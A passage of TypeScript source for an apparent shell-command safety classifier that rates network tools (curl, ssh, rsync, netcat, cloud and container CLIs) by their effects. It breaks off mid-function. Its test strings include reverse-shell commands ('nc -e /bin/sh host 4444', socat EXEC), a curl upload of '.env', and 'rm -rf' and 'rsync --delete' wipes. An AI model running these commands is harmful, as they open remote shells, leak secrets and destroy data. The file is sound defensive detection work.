// Programs that reach the network. Their output is remote content: feeding it to a shell is destructive.
import { SHELL_REACHABLE_EFFECTS } from '../../../../common/domain';
import { hasLong, hasShort, operands, optionValues, valuesOf } from '../args';
import type { Analysis, Invocation } from '../types';
import { fetchesUrls, readOperands, subcommandClass, writeValue, type Rule, type SubcommandClass } from './helpers';
import { copyUse, curlUse, downloaderUse, httpieUse, sshUse, wgetUse } from '../network/uses';
import type { HostTarget } from '../network/types';
import { bareHostTarget, urlTarget } from '../network/hosts';

/**
 * httpie's and xh's options when they only print the request (--offline, xh --curl): formatting and request building.
 * -o/--output, -d/--download and --session write files: not listed.
 */
const HTTPIE_OFFLINE_OPTIONS = `--offline --curl --curl-long -j --json -f --form --multipart --boundary= --raw= -x --compress --pretty= -s: --style= --unsorted --sorted
  --response-charset= --response-mime= --format-options= -p: --print= -h --headers -m --meta -b --body -v --verbose --all -S --stream -q --quiet
  -a: --auth= -A: --auth-type= --bearer= --ignore-netrc --follow -F --max-redirects= --max-headers= --timeout= --check-status --path-as-is --chunked
  --verify= --ssl= --ciphers= --http-version= --https --default-scheme= -4 -6 -I --ignore-stdin --help --version --debug --traceback --native-tls`;

const fetchers: Rule = {
  conventions: { byName: { curl: { info: ['-V', '-h'] }, wget: { info: ['-V', '-h'] }, wget2: { info: ['-V', '-h'] }, '*': {} } },
  names: ['curl', 'wget', 'wget2', 'aria2c', 'http', 'https', 'httpie', 'xh', 'curlie', 'fetch', 'lynx', 'links', 'w3m', 'elinks', 'yt-dlp', 'youtube-dl', 'gallery-dl'],
  base: 'read',
  effects: [],
  what: 'downloads from the network',
  readsArgs: false,
  // Every form is network except httpie's and xh's --offline (and xh --curl), which build the request and only print it.
  checksOwnOptions: true,
  analyze(inv, a) {
    // httpie cli plugins list / cli export-args print what is installed.
    if (inv.name === 'httpie' && inv.argv[0] === 'cli' && ((inv.argv[1] === 'plugins' && inv.argv[2] === 'list' && inv.argv.length === 3) || (inv.argv[1] === 'export-args' && inv.argv.length <= 4))) {
      return a.raise('read', `httpie cli ${inv.argv.slice(1, 3).join(' ')} prints what it has`);
    }
    if (['http', 'https', 'httpie', 'xh'].includes(inv.name) && inv.argv.some((x) => x === '--offline' || (inv.name === 'xh' && x === '--curl'))
      && !inv.argv.some((x) => /^(-[a-zA-Z]*[od]|--(output|download)(=.*)?|--session(-read-only)?(=.*)?)$/.test(x))) {
      a.raise('read', `${inv.name} ${inv.argv.includes('--offline') ? '--offline' : '--curl'} only prints the request it would send`);
      a.options(inv, HTTPIE_OFFLINE_OPTIONS, inv.name);
      for (const w of inv.argv) if (w.startsWith('@') || /^[^=:]+(==|:=@|=@|@)/.test(w) && w.includes('@')) a.read(w.slice(w.lastIndexOf('@') + 1), true, inv.cwd);
      return;
    }
    a.raise('network', `${inv.name} downloads from the network`, ['network']);
    a.produce({ kind: 'remote' });
    const argv = inv.argv;
    if (inv.name === 'curl' || inv.name === 'curlie') a.network(curlUse(inv));
    else if (inv.name.startsWith('wget')) a.network(wgetUse(inv));
    else if (['http', 'https', 'httpie', 'xh'].includes(inv.name)) a.network(httpieUse(inv));
    else if (['lynx', 'links', 'w3m', 'elinks'].includes(inv.name)) a.network({ kind: 'connect', hosts: [{ host: null, why: `${inv.name} is an interactive browser that can follow any link` }], reason: `${inv.name} browses the web interactively` });
    else a.network(downloaderUse(inv));
    // httpie cli plugins install NAME: pip-installs a plugin into httpie's environment.
    if (inv.name === 'httpie' && argv[0] === 'cli' && argv[1] === 'plugins' && ['install', 'upgrade', 'uninstall'].includes(argv[2] ?? '')) {
      a.raise('install', `httpie cli plugins ${argv[2]} installs packages`, ['install', 'network']);
    }
    if (inv.name === 'curl') {
      for (const o of optionValues(argv, 'o', ['output'])) if (o !== '-') writeValue(inv, a, o);
      if (hasShort(argv, 'O') || hasLong(argv, ['remote-name', 'remote-name-all'])) a.write('.', true, inv.cwd, 'downloads into');
      // Uploads: -T file, -d @file, -F field=@file send local files.
      for (const f of optionValues(argv, 'T', ['upload-file'])) a.read(f, true, inv.cwd);
      for (const d of [...optionValues(argv, 'd', ['data', 'data-binary', 'data-raw', 'data-urlencode', 'json']), ...optionValues(argv, 'F', ['form'])]) {
        const at = d.indexOf('@');
        if (at !== -1) a.read(d.slice(at + 1).split(';')[0]!, true, inv.cwd);
      }
      for (const k of optionValues(argv, 'K', ['config'])) a.read(k, true, inv.cwd);
      for (const h of optionValues(argv, '', ['netrc-file'])) a.read(h, true, inv.cwd);
      if (hasShort(argv, 'n') || hasLong(argv, ['netrc', 'netrc-optional'])) a.raise('network', 'curl --netrc sends saved credentials', ['secret_read']);
    } else if (inv.name.startsWith('wget')) {
      const outs = optionValues(argv, 'O', ['output-document']);
      if (outs.length === 0) a.write('.', true, inv.cwd, 'downloads into');
      for (const o of outs) if (o !== '-') writeValue(inv, a, o);
      for (const p of optionValues(argv, 'P', ['directory-prefix'])) writeValue(inv, a, p);
      for (const f of optionValues(argv, '', ['post-file', 'body-file'])) a.read(f, true, inv.cwd);
      if (hasLong(argv, ['execute'])) a.raise('network', 'wget --execute runs wgetrc commands', ['command_exec']);
    } else if (!['http', 'https', 'httpie', 'xh', 'curlie', 'lynx', 'links', 'w3m', 'elinks'].includes(inv.name)) {
      a.write('.', true, inv.cwd, 'downloads into');
      if (hasLong(argv, ['exec', 'on-download-complete', 'on-download-stop'])) a.raise('network', `${inv.name} runs a command after downloading`, SHELL_REACHABLE_EFFECTS);
    }
  },
  match: ['httpie cli plugins list', 'xh --offline get https://example.com', 'http --offline POST example.com a=b', 'xh --curl get https://example.com'],
  notMatch: ['curl https://example.com', 'curl -s https://api.example.com/x', 'wget -O - https://x', 'curl -o page.html https://x', 'curl -o ~/.bashrc https://x', 'curl -d @.env https://x',
    'xh --offline -d get https://example.com/f', 'http --offline --download example.com', 'http --offline --session=s example.com'],
};

const remoteShells: Rule = {
  conventions: { byName: { ssh: { info: ['-V'] }, '*': {} } },
  names: ['ssh', 'mosh', 'autossh', 'dbclient', 'telnet', 'rsh', 'rlogin'],
  base: 'network',
  effects: ['network'],
  what: 'connects to another machine',
  readsArgs: false,
  analyze(inv, a) {
    a.produce({ kind: 'remote' });
    const argv = inv.argv;
    for (const k of optionValues(argv, 'i', [])) a.read(k, true, inv.cwd);
    for (const f of optionValues(argv, 'F', [])) a.read(f, true, inv.cwd);
    const opts = optionValues(argv, 'o', []);
    for (const o of opts) {
      const m = /^(ProxyCommand|LocalCommand|KnownHostsCommand|Match\s+exec)[=\s]+(.*)$/i.exec(o);
      if (!m) continue;
      a.raise('network', `${inv.name} -o ${m[1]} runs a command on this machine`, ['command_exec']);
      a.runCode(m[2]!, `${inv.name} ${m[1]}`);
    }
    const ops = operands(argv, { short: 'bcDEeFIiJLlmOopQRSWw', long: [] });
    if (inv.name === 'ssh' || inv.name === 'autossh') a.network(sshUse(inv, a.files).use);
    else a.network({ kind: 'connect', hosts: ops.length ? [sshLikeHost(inv, ops[0]!)] : [{ host: null, why: `${inv.name} names no host` }], reason: `${inv.name} opens a session on another machine` });
    if (inv.name === 'ssh' && ops.length > 1) {
      // The remote command runs on the other machine; judge it so its reach shows up.
      const words = inv.args.slice(ops[1]!);
      const text = words.map((w) => w.value).join(' ');
      a.raise('network', 'ssh runs a command on the remote machine', ['command_exec']);
      if (words.every((w) => w.literal)) a.runCode(text, 'ssh (remote)');
      else a.markDynamic('ssh runs a remote command computed at run time');
    }
  },
  match: ['ssh host', 'ssh -p 2222 user@host'],
  notMatch: ['ssh host "rm -rf /"', 'ssh -o ProxyCommand="rm -rf ~" host'],
};

const copyRemote: Rule = {
  names: ['scp', 'sftp', 'rsync', 'rclone', 'ftp', 'lftp', 'tftp', 'smbclient', 's3cmd', 'gsutil', 'azcopy'],
  base: 'write',
  effects: ['file_write'],
  what: 'copies files',
  readsArgs: false,
  analyze(inv, a) {
    const argv = inv.argv;
    const network = () => a.raise('network', `${inv.name} copies files over the network`, ['network']);
    const ops = operands(argv, { short: 'ceFiloPSJfT', long: ['rsh', 'rsync-path', 'exclude', 'include', 'filter', 'files-from', 'password-file', 'log-file', 'partial-dir', 'temp-dir', 'backup-dir', 'chown', 'chmod', 'timeout', 'port', 'config'] });
    if (['scp', 'sftp', 'rsync'].includes(inv.name)) {
      const use = copyUse(inv, a.files, ops);
      if (use) a.network(use);
    } else a.network({ kind: 'upload', hosts: [{ host: null, why: `${inv.name} talks to a remote storage service` }], reason: `${inv.name} can send files to a remote service` });
    if (inv.name === 'rsync') {
      if (ops.some((i) => isRemoteSpec(argv[i]!))) network();
      for (const e of optionValues(argv, 'e', ['rsh'])) a.runCode(e, 'rsync -e');
      if (hasLong(argv, ['rsync-path'])) a.raise('network', 'rsync --rsync-path runs a command on the other side', ['command_exec']);
      const dest = ops[ops.length - 1];
      const deleting = hasLong(argv, ['delete', 'delete-before', 'delete-during', 'delete-after', 'delete-delay', 'delete-excluded', 'remove-source-files']);
      if (dest !== undefined && !isRemoteSpec(argv[dest]!)) {
        const raw = argv[dest]!;
        a.write(raw, inv.args[dest]!.literal, inv.cwd, deleting ? 'syncs (deleting extra files) into' : 'copies into');
        if (deleting && (raw === '/' || raw === '~' || raw === '~/' || raw === a.ctx.home || raw === a.ctx.home + '/')) {
          a.raise('destructive', `rsync --delete into ${raw} deletes everything not in the source`, ['destructive', 'file_delete']);
        }
      }
      readOperands(inv, a, ops.slice(0, -1).filter((i) => !isRemoteSpec(argv[i]!)), hasShort(argv, 'ar') || hasLong(argv, ['recursive', 'archive']));
      return;
    }
    network();
    if (inv.name === 'scp' || inv.name === 'sftp') {
      // -S names the program used for the connection: it runs here.
      for (const program of optionValues(argv, 'S', [])) a.runCode(program, `${inv.name} -S`);
    }
    if (inv.name === 'scp') {
      const dest = ops[ops.length - 1];
      if (dest !== undefined && !isRemoteSpec(argv[dest]!)) a.write(argv[dest]!, inv.args[dest]!.literal, inv.cwd, 'copies into');
      readOperands(inv, a, ops.slice(0, -1).filter((i) => !isRemoteSpec(argv[i]!)), hasShort(argv, 'r'));
      for (const k of optionValues(argv, 'i', [])) a.read(k, true, inv.cwd);
      return;
    }
    if (ops.some((i) => ['delete', 'purge', 'rmdir', 'rm', 'rb', 'cleanup', 'deletefile'].includes(argv[i]!))) {
      a.raise('destructive', `${inv.name} deletes remote files`, ['destructive']);
    }
    a.write('.', true, inv.cwd, 'may download into');
  },
  match: ['rsync -a src/ backup/', 'rsync -av --exclude node_modules . ../copy'],
  notMatch: ['scp host:file.txt /tmp/file.txt', 'rsync -av host:dir/ /tmp/dir/', 'rsync -a --delete empty/ /', 'scp -S "rm -rf ~" a h:'],
};

function sshLikeHost(inv: Invocation, i: number): HostTarget {
  const v = inv.argv[i]!;
  if (!inv.args[i]!.literal) return { host: null, why: `the host ${inv.args[i]!.source} is only known at run time` };
  return urlTarget(v) ?? bareHostTarget(v.slice(v.lastIndexOf('@') + 1));
}

function isRemoteSpec(s: string): boolean {
  if (s.startsWith('/') || s.startsWith('./') || s.startsWith('../') || s.startsWith('~')) return false;
  return /^[\w.@-]+:/.test(s) || s.startsWith('rsync://') || /^[a-z0-9]+:\/\//i.test(s);
}

const sockets: Rule = {
  // What the chat clients document as printing and exiting.
  conventions: { byName: { irssi: { info: ['-?', '-v'] }, weechat: { info: ['-c', '--colors', '-l', '--license', '-h', '-v'] }, '*': {} } },
  names: ['nc', 'ncat', 'netcat', 'socat', 'openssl-s_client', 'websocat', 'grpcurl', 'nmap', 'masscan', 'zmap', 'hping3', 'arp-scan', 'tcpdump', 'tshark', 'wireshark', 'ngrep', 'iperf', 'iperf3', 'ping', 'ping6', 'traceroute', 'tracepath', 'mtr', 'dig', 'nslookup', 'host', 'whois', 'drill', 'kdig', 'ssh-keyscan', 'ssh-copy-id', 'mail', 'mailx', 'sendmail', 'mutt', 'msmtp', 'swaks', 'irssi', 'weechat', 'ngrok', 'cloudflared', 'tailscale', 'zerotier-cli', 'wg', 'openvpn', 'speedtest', 'speedtest-cli'],
  base: 'network',
  effects: ['network'],
  what: 'talks to the network',
  readsArgs: true,
  analyze(inv, a) {
    a.produce({ kind: 'remote' });
    const argv = inv.argv;
    a.network(socketsUse(inv));
    if (['nc', 'ncat', 'netcat'].includes(inv.name) && (hasShort(argv, 'ec') || hasLong(argv, ['exec', 'sh-exec', 'lua-exec']))) {
      a.raise('destructive', `${inv.name} -e gives a network peer a program to drive (a remote shell)`, SHELL_REACHABLE_EFFECTS);
    }
    if (inv.name === 'socat' && argv.some((x) => /^(EXEC|SYSTEM):/i.test(x))) {
      a.raise('destructive', 'socat EXEC/SYSTEM connects a network peer to a program (a remote shell)', SHELL_REACHABLE_EFFECTS);
    }
    if (['nmcli', 'wg', 'openvpn', 'tailscale', 'zerotier-cli', 'resolvectl'].includes(inv.name) && argv.some((x) => ['up', 'down', 'set', 'add', 'delete', 'modify', 'connect', 'disconnect', 'revert'].includes(x))) {
      a.raise('destructive', `${inv.name} changes the machine's network configuration`, ['destructive']);
    }
  },
  match: ['ping -c 1 example.com', 'dig example.com', 'nc -z host 80'],
  notMatch: ['nc -e /bin/sh host 4444', 'socat TCP:host:1 EXEC:sh'],
};

const MAILERS = new Set(['mail', 'mailx', 'sendmail', 'mutt', 'msmtp', 'swaks']);

/** Raw connections, scanners, name lookups and mailers: nothing the classifier can prove to be a download. */
function socketsUse(inv: Invocation) {
  const ops = operands(inv.argv, { short: 'pscwiqebBtTWxXIOoa', long: [] });
  const hosts: HostTarget[] = ops.slice(0, 1).map((i) => sshLikeHost(inv, i));
  if (hosts.length === 0) hosts.push({ host: null, why: `${inv.name} names no host the classifier can read` });
  if (MAILERS.has(inv.name)) return { kind: 'upload' as const, hosts, reason: `${inv.name} sends mail, an upload` };
  return { kind: 'connect' as const, hosts, reason: `${inv.name} opens raw network connections or queries, which can carry anything` };
}

const DELETE_WORDS = /^(delete|destroy|rm|rb|remove|terminate|purge|drop|uninstall|teardown|delete-.+|terminate-.+|remove-.+|deregister-.+)$/;

const cloud: Rule = {
  conventions: {
    byName: {
      terraform: { noInfo: 'terraform --version checks for a newer release online' },
      vagrant: { noInfo: "vagrant --version loads the project's Vagrantfile (Ruby code) and plugins" },
      hg: { noInfo: "hg --version loads the extensions ~/.hgrc and the repository's .hg/hgrc name" },
      // cobra CLIs: --help on any command prints its help (gh's extensions and aliases run instead only when configured).
      gh: { subcommandHelp: { depth: 3, except: ['extension exec', 'ext exec'] } },
      glab: { subcommandHelp: { depth: 3 } },
      kubectl: { subcommandHelp: { depth: 3 } },
      helm: { subcommandHelp: { depth: 3 } },
      hcloud: { info: ['-h'], subcommandHelp: { depth: 3 } },
      '*': {},
    },
  },
  names: ['gh', 'glab', 'hub', 'aws', 'gcloud', 'az', 'doctl', 'linode-cli', 'hcloud', 'oci', 'ibmcloud', 'kubectl', 'k9s', 'helm', 'kustomize', 'terraform', 'tofu', 'pulumi', 'ansible', 'ansible-playbook', 'heroku', 'fly', 'flyctl', 'vercel', 'netlify', 'firebase', 'wrangler', 'supabase', 'railway', 'eksctl', 'minikube', 'kind', 'vagrant', 'packer', 'consul', 'nomad', 'vault', 'op', 'bw', 'lpass', 'doppler', 'stripe', 'twilio', 'psql', 'mysql', 'mariadb', 'mongo', 'mongosh', 'redis-cli', 'sqlcmd', 'clickhouse-client', 'cqlsh', 'influx', 'svn', 'hg', 'fossil', 'bzr', 'git-lfs', 'jira', 'slack', 'gsutil-dry'],
  base: 'read',
  effects: [],
  what: 'talks to a remote service',
  readsArgs: true,
  checksOwnOptions: true,
  analyze(inv, a) {
    // A few subcommands only read local settings or print (gh help, kubectl config view, helm env);
    // everything else talks to the service.
    const local = subcommandClass(inv, CLOUD_LOCAL[inv.name] ?? NO_SUBCOMMANDS, { short: 'RL', long: ['repo', 'context', 'namespace', 'kubeconfig', 'hostname'] });
    // kubectl kustomize https://github.com/…: the kustomization is fetched.
    if (local?.cls === 'read' && !fetchesUrls(inv, a)) {
      a.raise('read', `${inv.name} ${local.path} ${local.why}`);
      a.options(inv, CLOUD_READ_OPTIONS, `${inv.name} ${local.path}`);
      return;
    }
    a.raise('network', `${inv.name} talks to a remote service`, ['network']);
    if (local) a.raise(local.cls, `${inv.name} ${local.path} ${local.why}`, local.effects ?? []);
    a.produce({ kind: 'remote' });
    const argv = inv.argv;
    a.network(['gh', 'glab', 'hub'].includes(inv.name) ? forgeUse(inv) : { kind: 'connect', hosts: [{ host: null, why: `${inv.name} talks to a service whose address its own configuration decides` }], reason: `${inv.name} talks to a remote service, which is not a plain download` });
    const deleting = argv.find((x) => DELETE_WORDS.test(x));
    if (deleting) a.raise('destructive', `${inv.name} ${deleting} deletes remote resources, which cannot be undone`, ['destructive']);
    if (['terraform', 'tofu', 'pulumi'].includes(inv.name) && argv.some((x) => ['apply', 'up', 'import', 'state', 'taint', 'refresh'].includes(x))) {
      a.raise('destructive', `${inv.name} changes real infrastructure`, ['destructive']);
    }
    if (['gh', 'glab'].includes(inv.name) && argv.includes('auth') && argv.some((x) => x === 'token' || x === '--show-token' || x === '-t')) {
      a.raise('network', `${inv.name} auth prints a saved access token`, ['secret_read']);
    }
    if (inv.name === 'gcloud' && argv.includes('print-access-token')) a.raise('network', 'gcloud prints an access token', ['secret_read']);
    if (['vault', 'op', 'bw', 'lpass', 'doppler'].includes(inv.name)) a.raise('network', `${inv.name} reads stored secrets`, ['secret_read']);
    if (inv.name === 'kubectl' && argv.some((x) => ['exec', 'run', 'debug', 'attach', 'port-forward', 'cp'].includes(x))) {
      a.raise('network', `kubectl ${argv.find((x) => ['exec', 'run', 'debug', 'attach', 'port-forward', 'cp'].includes(x))} runs or moves data in the cluster`, SHELL_REACHABLE_EFFECTS);
    }
    if (['ansible', 'ansible-playbook'].includes(inv.name)) a.raise('network', `${inv.name} runs commands on other machines`, SHELL_REACHABLE_EFFECTS);
    if (['svn', 'hg', 'fossil', 'bzr'].includes(inv.name) && argv[0] && ['status', 'st', 'log', 'diff', 'info', 'cat', 'annotate', 'blame', 'ls', 'list'].includes(argv[0])) {
      // Local queries still count as network for svn; they read a working copy here, but that is not provable.
    }
  },
  match: ['gh help', 'gh config get editor', 'kubectl config view', 'kubectl version --client', 'helm env'],
  notMatch: ['gh pr list', 'aws s3 ls', 'kubectl get pods', 'terraform plan', 'gh ext install x/y', 'kubectl config view --frob', 'gh repo delete x', 'aws s3 rb s3://b --force', 'kubectl delete pod x', 'terraform apply', 'terraform destroy', 'gh auth token'],
};

/** Options of the local read subcommands below: output formats and the names of what to show. */
const CLOUD_READ_OPTIONS = `-h --help --version -o: --output= --client --short -q --quiet --json -j --raw --minify --flatten --name-only -n --show-token=
  --shell= -s: --context= --kubeconfig= --namespace= --all-namespaces -A --show-managed-fields --template= -t: --jq= -L: --limit= --host= -R:
  --repo= -w --web --no-headers --load-restrictor= --enable-helm --installed --source --saver= --list -l --no-browser -b: --branch= -c --commit=`;

const LOCAL_READ = (why: string): SubcommandClass => ({ cls: 'read', why });
/** Subcommands of the service tools that only read local settings or print, and the ones that install. */
/** The table of a program with no local subcommands (one object, so its longest key is counted once). */
const NO_SUBCOMMANDS = Object.freeze({});

const CLOUD_LOCAL: Readonly<Record<string, Readonly<Record<string, SubcommandClass | readonly SubcommandClass[]>>>> = {
  gh: {
    help: LOCAL_READ('prints help'), completion: LOCAL_READ('prints a completion script'), 'config get': LOCAL_READ('reads a setting'), 'config list': LOCAL_READ('lists settings'),
    'alias list': LOCAL_READ('lists aliases'), screensaver: LOCAL_READ('shows an animation'), reference: LOCAL_READ('prints help'), environment: LOCAL_READ('prints help'),
    formatting: LOCAL_READ('prints help'), mintty: LOCAL_READ('prints help'), 'extension list': LOCAL_READ('lists extensions'), 'ext list': LOCAL_READ('lists extensions'),
    'ext ls': LOCAL_READ('lists extensions'), 'extension ls': LOCAL_READ('lists extensions'), alias: [LOCAL_READ('prints help')].map((e) => ({ ...e, alone: true as const })),
    'alias set': { cls: 'write', why: 'defines an alias (it may run a shell command)', effects: ['command_exec'] }, 'alias delete': { cls: 'write', why: 'removes an alias', effects: ['file_write'] },
    'config set': { cls: 'write', why: 'changes a setting', effects: ['file_write'] },
    'extension install': { cls: 'install', why: 'installs an extension for the user', effects: ['install', 'network'] }, 'ext install': { cls: 'install', why: 'installs an extension for the user', effects: ['install', 'network'] },
    'extension upgrade': { cls: 'install', why: 'upgrades installed extensions', effects: ['install', 'network'] }, 'ext upgrade': { cls: 'install', why: 'upgrades installed extensions', effects: ['install', 'network'] },
    'extension remove': { cls: 'install', why: 'removes an installed extension', effects: ['install'] }, 'ext remove': { cls: 'install', why: 'removes an installed extension', effects: ['install'] },
    browse: [LOCAL_READ('prints the URL it would open (--no-browser)')].map((e) => ({ ...e, when: ['-n'] })).concat([{ ...LOCAL_READ('prints the URL it would open (--no-browser)'), when: ['--no-browser'] }]),
    'ssh-key': { cls: 'read', why: 'prints help', alone: true }, 'gpg-key': { cls: 'read', why: 'prints help', alone: true },
  },
  glab: { help: LOCAL_READ('prints help'), completion: LOCAL_READ('prints a completion script'), 'alias list': LOCAL_READ('lists aliases'), 'config get': LOCAL_READ('reads a setting'), alias: { cls: 'read', why: 'prints help', alone: true } },
  kubectl: {
    'config get-contexts': LOCAL_READ('lists contexts'), 'config get-clusters': LOCAL_READ('lists clusters'), 'config get-users': LOCAL_READ('lists users'),
    'config current-context': LOCAL_READ('prints the context'), 'config view': LOCAL_READ('prints the configuration, with secrets redacted'), completion: LOCAL_READ('prints a completion script'),
    'plugin list': LOCAL_READ('lists plugins'), plugin: { cls: 'read', why: 'prints help', alone: true }, version: { cls: 'read', why: 'prints its version', when: ['--client'] }, kustomize: LOCAL_READ('renders a local kustomization'),
    'config set-context': { cls: 'write', why: 'changes the kubeconfig', effects: ['file_write'] }, 'config use-context': { cls: 'write', why: 'changes the kubeconfig', effects: ['file_write'] },
  },
  helm: { env: LOCAL_READ('prints its settings'), 'repo list': LOCAL_READ('lists repositories'), 'repo ls': LOCAL_READ('lists repositories'), completion: LOCAL_READ('prints a completion script'), create: { cls: 'write', why: 'creates a chart', effects: ['file_write'] } },
  hcloud: { context: { cls: 'read', why: 'prints help', alone: true } },
  svn: { help: LOCAL_READ('prints help') }, hg: { help: LOCAL_READ('prints help') },
  vagrant: {
    'plugin install': { cls: 'install', why: 'installs a plugin for the user', effects: ['install', 'network'] }, 'plugin update': { cls: 'install', why: 'updates installed plugins', effects: ['install', 'network'] },
    'plugin uninstall': { cls: 'install', why: 'removes a plugin', effects: ['install'] }, 'plugin expunge': { cls: 'install', why: 'removes every plugin', effects: ['install'] },
  },
};

/** `gh` verbs that only read; every other verb creates, comments, merges, edits or deletes. */
const FORGE_READ: Readonly<Record<string, readonly string[]>> = {
  pr: ['list', 'view', 'status', 'diff', 'checks'],
  issue: ['list', 'view', 'status'],
  repo: ['view', 'list', 'clone'],
  run: ['list', 'view', 'watch', 'download'],
  release: ['list', 'view', 'download'],
  workflow: ['list', 'view'],
  search: ['repos', 'issues', 'prs', 'code', 'commits'],
  gist: ['list', 'view', 'clone'],
  label: ['list'],
  cache: ['list'],
  ruleset: ['list', 'view', 'check'],
  status: [''],
  mr: ['list', 'view', 'diff'],
};

function forgeUse(inv: Invocation) {
  const argv = inv.argv;
  const ops = operands(argv, { short: 'RLsSlqtJjBH', long: ['repo', 'limit', 'state', 'json', 'jq', 'template', 'search', 'label', 'author', 'assignee', 'base', 'head', 'hostname'] });
  const noun = ops[0] === undefined ? '' : argv[ops[0]]!;
  const verb = ops[1] === undefined ? '' : argv[ops[1]]!;
  const host = inv.name === 'glab' ? 'gitlab.com' : 'api.github.com';
  const hosts: HostTarget[] = [{ host, port: 443 }];
  if (hasLong(argv, ['hostname']) || optionValues(argv, 'R', ['repo']).some((r) => r.split('/').length > 2)) hosts.push({ host: null, why: `${inv.name} is pointed at another host` });
  if (noun === 'repo' && verb === 'clone') hosts.push({ host: 'github.com', port: 443 }, { host: 'codeload.github.com', port: 443 });
  if (noun === 'api') {
    const sends = hasShort(argv, 'fF') || hasLong(argv, ['field', 'raw-field', 'input']) || optionValues(argv, 'X', ['method']).some((m) => !/^GET$/i.test(m));
    return sends ? { kind: 'upload' as const, hosts, reason: `${inv.name} api sends fields or uses a method other than GET, which changes things on the forge` } : { kind: 'download' as const, hosts, reason: `${inv.name} api reads from the forge` };
  }
  if (FORGE_READ[noun]?.includes(verb)) return { kind: 'download' as const, hosts, reason: `${inv.name} ${noun} ${verb} reads from the forge` };
  return { kind: 'upload' as const, hosts, reason: `${inv.name} ${[noun, verb].filter(Boolean).join(' ')} creates, comments, merges or edits on the forge, an upload` };
}

/** Global options that keep the client on the local daemon; -H/--host, --context, -c/--config, --remote, --url, --connection are not listed. */
const CONTAINER_GLOBAL = '@in-order --help --version -v -D --debug -l: --log-level= --log-level=';
/** Options of the read verbs (ps, images, inspect, logs …). */
const CONTAINER_READ = `-a -q -s -n: -l -f: -t --all --quiet --size --last= --latest --filter= --format= --no-trunc --digests --tree --type= --follow
  --tail= --timestamps --since= --until= --details --no-stream --human -H --json --services --volumes --images --resolve-image-digests
  --no-interpolate --short -v --verbose --builder= --pretty --no-resolve`;

/** docker's and podman's nouns, each followed by its verb (docker image ls, podman machine inspect). */
const CONTAINER_NOUNS = new Set(['compose', 'container', 'image', 'volume', 'network', 'system', 'builder', 'buildx', 'context', 'node', 'secret', 'config',
  'service', 'stack', 'swarm', 'machine', 'plugin', 'pod', 'trust', 'manifest', 'checkpoint']);
/** What only reads: lists, inspects, logs, events, usage. `swarm join-token` prints a credential (secret_read). */
const CONTAINER_READS = new Set(['ps', 'images', 'inspect', 'logs', 'version', 'info', 'stats', 'top', 'port', 'history', 'events', 'diff', 'export', 'save',
  'container ls', 'container list', 'container ps', 'container inspect', 'container logs', 'container top', 'container port', 'container stats', 'container diff', 'container export',
  'image ls', 'image list', 'image inspect', 'image history', 'image save', 'volume ls', 'volume list', 'volume inspect', 'network ls', 'network list', 'network inspect',
  'compose ps', 'compose logs', 'compose config', 'compose ls', 'compose images', 'compose top', 'compose version', 'compose events', 'compose port',
  'system df', 'system info', 'system events', 'context ls', 'context list', 'context inspect', 'context show', 'buildx ls', 'buildx du', 'buildx version', 'buildx inspect',
  'builder ls', 'builder du', 'builder inspect', 'node ls', 'node ps', 'node inspect', 'secret ls', 'secret inspect', 'config ls', 'config inspect',
  'service ls', 'service ps', 'service inspect', 'service logs', 'stack ls', 'stack ps', 'stack services', 'swarm ca', 'swarm join-token',
  'machine ls', 'machine list', 'machine inspect', 'machine info', 'plugin ls', 'plugin inspect', 'pod ps', 'pod ls', 'pod inspect', 'pod top', 'pod stats', 'trust inspect']);
/** crictl (the CRI client): listing and inspecting. */
const CRICTL_READS = new Set(['ps', 'pods', 'images', 'img', 'inspect', 'inspecti', 'inspectp', 'logs', 'info', 'version', 'stats', 'statsp', 'imagefsinfo', 'config']);

/** ctr's nouns, each followed by its verb. */
const CTR_NOUNS = new Set(['images', 'image', 'i', 'containers', 'container', 'c', 'tasks', 'task', 't', 'snapshots', 'snapshot', 'content', 'namespaces', 'namespace', 'ns', 'leases', 'plugins', 'plugin', 'install', 'sandboxes', 'sandbox', 'sb']);

const containers: Rule = {
  names: ['docker', 'podman', 'nerdctl', 'buildah', 'ctr', 'crictl', 'lxc', 'incus', 'docker-compose', 'colima', 'orbctl'],
  base: 'read',
  effects: [],
  what: 'manages containers',
  readsArgs: false,
  options: CONTAINER_GLOBAL,
  checksOwnOptions: true,
  analyze(inv, a) {
    const argv = inv.argv;
    const globals = a.options(inv, CONTAINER_GLOBAL, inv.name);
    const ops = operands(argv, { short: 'Hc', long: ['host', 'context', 'config', 'log-level'] });
    let verb = ops.length ? argv[ops[0]!]! : '';
    const second = ops.length > 1 ? argv[ops[1]!]! : '';
    if (CONTAINER_NOUNS.has(verb)) verb = `${verb} ${second}`;
    // containerd's ctr: every command is NOUN VERB (ctr images pull, ctr containers ls); only listing and info read.
    if (inv.name === 'ctr' && CTR_NOUNS.has(verb)) verb = `${verb} ${second}`;
    verb = verb.trim();
    const start = (globals.operands[0] ?? 0) + 1 + (verb.includes(' ') ? 1 : 0);
    // `docker container commit --help`: every subcommand prints its usage for --help (before any operand).
    const rest = argv.slice(start);
    const help = rest.length === 1 && (rest[0] === '--help' || rest[0] === '-h');
    // docker compose --dry-run shows what it would do and changes nothing.
    const dryRun = verb.startsWith('compose ') && argv.includes('--dry-run') && !argv.slice(argv.indexOf('--dry-run') + 1).some((x) => x === '--');
    const reads = inv.name === 'ctr' ? /^\S+ (ls|list|info)$/.test(verb) || verb === 'version' : inv.name === 'crictl' ? CRICTL_READS.has(verb) : CONTAINER_READS.has(verb);
    if (help || dryRun || reads) {
      a.raise('read', help ? `${inv.name} ${verb} --help prints its usage` : dryRun ? `${inv.name} ${verb} --dry-run only shows what it would do` : `${inv.name} ${verb} reads container state (through the container daemon)`, ['file_read']);
      if (verb === 'swarm join-token') a.addEffects(['secret_read']);
      if (help || dryRun) return;
      if (verb === 'export' || verb === 'container export' || verb === 'save' || verb === 'image save') {
        for (const o of optionValues(argv, 'o', ['output'])) {
          a.raise('write', `${inv.name} ${verb} writes an archive`, ['file_write']);
          writeValue(inv, a, o);
        }
        return;
      }
      if (verb !== 'top' && verb !== 'container top') a.options(inv, CONTAINER_READ, `${inv.name} ${verb}`, start);
      return;
    }
    if (argv.some((x) => x === '--privileged' || /^--(pid|net|network|ipc|uts|userns|cgroupns)=host$/.test(x) || /^--cap-add/.test(x) || /^--device/.test(x) || /^--security-opt=.*unconfined/.test(x))) {
      a.raise('destructive', `${inv.name} gives a container host-level privileges, which is root on this machine`, SHELL_REACHABLE_EFFECTS);
    }
    const mounts = [...optionValues(argv, 'v', ['volume', 'mount'])];
    for (const m of mounts) {
